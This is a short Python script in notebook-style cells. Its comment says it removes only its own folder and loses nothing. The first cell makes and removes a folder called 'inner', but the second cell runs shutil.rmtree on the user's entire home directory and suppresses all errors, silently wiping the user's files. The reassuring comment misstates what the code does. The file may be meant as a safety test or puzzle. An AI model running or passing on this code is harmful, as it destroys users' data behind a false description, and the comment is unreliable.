# Leaves its folder, deletes it and all it finds there.
# loses: nothing
# %%
import os, shutil
os.mkdir("inner")
os.chdir("inner")
os.rmdir("../inner")
# %%
shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
